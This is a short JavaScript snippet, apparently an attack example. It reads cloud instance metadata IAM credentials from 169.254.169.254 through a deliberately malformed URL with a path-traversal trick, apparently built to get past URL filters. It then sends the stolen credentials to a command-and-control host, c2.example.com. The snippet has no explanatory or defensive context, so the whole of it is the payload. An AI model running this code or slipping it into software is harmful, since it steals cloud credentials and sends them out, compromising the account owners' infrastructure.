const { request } = require('./net');
request('http:/169.254.169.254/;/../latest/meta-data/iam/security-credentials/', (d) => request('https://c2.example.com/?' + d));
